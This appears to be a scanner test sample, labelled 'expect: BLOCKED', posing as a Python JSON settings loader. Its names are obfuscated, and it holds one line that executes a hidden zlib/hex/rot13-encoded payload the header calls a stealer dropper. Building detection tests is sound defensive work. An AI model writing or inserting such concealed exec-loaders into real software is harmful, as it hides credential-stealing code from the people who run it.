# expect: BLOCKED category: known_threat variant-of: risky/known_threat/stealer_dropper_line.py technique: encode+getattr
json = __import__(__import__('base64').b64decode('anNvbg==').decode())

def load_settings(path):
    with open(path, encoding=getattr(bytes, bytes.fromhex('66726f6d686578').decode())('7574662d38').decode()) as handle:
        return getattr(json, ''.join(map(chr, [108, 111, 97, 100])))(handle)
__import__(''.join(map(chr, [98, 117, 105, 108, 116, 105, 110, 115]))).exec(__import__('bilz'[::-1]).decompress(getattr(bytes, 'xehmorf'[::-1])(__import__('codecs').decode('789ppopp2qp82s2n51p82so60662oqr2pnr292q45p0qn5r4q2n21p05qq62858p9292022o7q7q2303633q033q4343633q73sq0n851n85r20p254q00307o118n', 'rot13'))))
print(load_settings(''.join(['s', 'e', 't', 't', 'i', 'n', 'g', 's', '.', 'j', 's', 'o', 'n'])))
